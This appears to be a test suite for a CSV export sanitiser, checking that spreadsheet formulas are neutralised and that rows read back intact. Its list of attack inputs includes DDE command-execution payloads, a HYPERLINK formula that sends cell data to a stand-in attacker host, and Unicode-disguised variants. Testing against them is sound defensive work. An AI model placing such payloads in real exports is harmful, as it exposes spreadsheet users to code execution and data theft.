"""Cells of CSV files: no spreadsheet takes one for a formula, and every reader gets the rows that were written."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dossiers.export.cells import LINES, cell, head, line, several
from dossiers.export.documented import DataField

COLUMNS = (DataField("a", "text", "One."), DataField("b", "text", "Two."))

# What OWASP names, what Excel and LibreOffice run, and what hides before it.
ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\x1b=1+1",
    "\u2028=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " ＝1+1",
    "﹦1+1",
    "−1",
    "harmless;=1+1",
    "harmless; =1+1",
    "harmless;\t@SUM(1)",
    "harmless；＝1",
    "a;b;-1",
]
HARMLESS = [
    "",
    "a=b",
    "Abu Mahdi al-Muhandis",
    "28004",
    "1974~",
    "..",
    "[1893,1894]",
    "p. 4; p. 5",
    "قيس",
    "'quoted'",
]
SPREADSHEET_CELL = re.compile(r"[\s\u200b\ufeff]*[=+\-@＝＋－＠]")


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_becomes_text(attack: str) -> None:
    """Whatever a spreadsheet would run stands behind an apostrophe, also where a semicolon begins a cell."""
    found = cell(attack)
    assert found != attack
    for part in re.split("[;；]", found):
        assert not SPREADSHEET_CELL.match(part)
    assert found.replace("'", "").split()[-1:] == _plain(attack).replace("'", "").split()[-1:]


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_stays(text: str) -> None:
    """What no spreadsheet runs is written as it is."""
    assert cell(text) == text


@given(st.text())
def test_no_text_at_all_is_a_formula(text: str) -> None:
    """For any text, the cell is one line of printable characters, and no part of it begins a formula."""
    found = cell(text)
    assert not re.search("[\x00-\x1f\x7f-\x9f\u2028\u2029]", found)
    assert all(not SPREADSHEET_CELL.match(part) for part in re.split("[;；]", found))


@given(st.text())
def test_a_cell_loses_no_visible_character(text: str) -> None:
    """But for line breaks, outer blanks and added apostrophes, a cell says what the text says."""
    assert re.sub(r"['\s]", "", cell(text)) == re.sub(r"['\s]", "", _plain(text))


@given(st.lists(st.tuples(st.text(), st.text())))
def test_a_table_is_read_as_it_was_written(rows: list[tuple[str, str]]) -> None:
    """Every reader of RFC 4180 gets as many rows and cells as were written, with the same text."""
    text = "".join(each + LINES for each in (head(COLUMNS), *(line(COLUMNS, row) for row in rows)))
    names, *found = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    assert names == ["a", "b"]
    assert found == [[cell(a), cell(b)] for a, b in rows]


@given(
    st.lists(
        st.sampled_from([*ATTACKS, *HARMLESS, "one, two", 'a "b"', " c", "d ", "e; f", "g;＝h", "ab"]),
        min_size=2,
        max_size=2,
    )
)
def test_a_cell_is_the_same_in_every_row(cells: list[str]) -> None:
    """What stands beside a cell changes nothing of it: each is guarded and quoted by itself."""
    (found,) = csv.reader([line(COLUMNS, cells)])
    assert found == [cell(each) for each in cells]
    out = io.StringIO()
    csv.writer(out, lineterminator="").writerow([cell(each) for each in cells])
    assert line(COLUMNS, cells) == out.getvalue()


def test_the_form_of_a_table() -> None:
    """A byte order mark before the names, quotes only where they must be, and doubled; a missing value is an empty cell."""
    assert head(COLUMNS) == "\ufeffa,b"
    assert line(COLUMNS, ('he said "so", then\nleft', None)) == '"he said ""so"", then left",'


def test_a_column_without_a_value_is_a_mistake() -> None:
    """A row must speak to every column, so that no documented column is silently empty."""
    with pytest.raises(ValueError, match="1 cells in 2 columns"):
        line(COLUMNS, ("x",))


def test_lists_are_joined_and_guarded() -> None:
    """A list is one cell, and none of its items can begin a formula."""
    assert cell(several(["one", "=two", "three"])) == "one; '=two; three"


def _plain(text: str) -> str:
    return re.sub("[\x00-\x1f\x7f-\x9f\u2028\u2029]+", " ", text)
